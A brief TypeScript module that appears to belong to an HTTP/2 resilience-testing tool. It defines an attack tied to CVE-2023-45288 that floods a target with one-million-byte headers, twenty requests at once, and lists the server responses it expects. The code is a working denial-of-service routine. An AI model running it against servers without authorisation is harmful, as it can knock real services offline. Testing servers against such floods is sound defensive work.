// Heads just below the largest that is permitted.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request, SMALL_PATH } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2023-45288',
  does: 'sends heads of 1,000,000 bytes, 20 at once',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', '431'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) =>
      closedLoop(connection, 20, request(head(target, 'GET', SMALL_PATH, 'x-large', 'v'.repeat(1_000_000)))),
    ),
}
